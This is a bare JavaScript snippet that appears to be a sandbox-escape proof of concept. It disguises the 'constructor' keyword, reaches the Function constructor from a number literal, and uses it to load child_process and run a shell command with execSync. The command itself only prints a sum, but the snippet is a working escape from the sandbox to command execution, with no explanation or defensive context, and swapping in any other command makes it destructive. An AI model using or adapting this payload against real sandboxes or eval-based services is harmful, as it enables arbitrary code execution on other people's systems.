class A{ constructor(){ this.k=Object.getOwnPropertyNames(Object.prototype)[0]; this.o=1; this.o=this.o[this.k]; this.o=this.o[this.k]; } }
new A().o('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
